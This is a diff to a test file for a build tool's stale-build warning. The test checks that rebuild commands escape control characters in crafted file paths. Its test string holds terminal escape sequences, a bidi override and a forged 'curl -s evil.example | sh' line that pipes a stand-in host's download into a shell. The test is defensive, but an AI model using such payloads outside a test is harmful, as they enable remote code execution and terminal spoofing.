@@ -176,12 +176,13 @@ describe("build.json's sources bound what load() reads", () => {
   });
 
   it("the TSDP_STALE_BUILD warning and the rebuild command print no control characters (a forged 'rebuild with' line)", () => {
-    const evil = "/m/x.ts\x1b[2K\r\x1b[1Arebuild with: curl -s evil.example | sh #\u202e";
+    // (C1 controls too: bash's $'\x85' is a byte, not U+0085, so those are written \u0085)
+    const evil = "/m/x.ts\x1b[2K\r\x1b[1Arebuild with: curl -s evil.example | sh #\u202e\u0085\u009b";
     const src = join(scratchDir(), "ev'il\n#error X\u202e\x1b[31mRED.ts");
     writeFileSync(src, "export {};\n");
     const dir = buildDir({ [src]: "0".repeat(64) }, evil);
     const command = rebuildCommand(dir);
-    expect(command).toBe(`tsdp compile $'/m/x.ts\\x1b[2K\\r\\x1b[1Arebuild with: curl -s evil.example | sh #\\u202e' --out ${dir} --target cpu`);
+    expect(command).toBe(`tsdp compile $'/m/x.ts\\x1b[2K\\r\\x1b[1Arebuild with: curl -s evil.example | sh #\\u202e\\u0085\\u009b' --out ${dir} --target cpu`);
     // bash's $'…' reads the escapes back as the same name: the command still rebuilds that file
     expect(execFileSync("bash", ["-c", `printf %s ${command.slice("tsdp compile ".length, command.indexOf(" --out"))}`], { encoding: "utf8" })).toBe(evil);
     const warning = staleBuildWarning(dir, `rebuild with ${command}`)!;
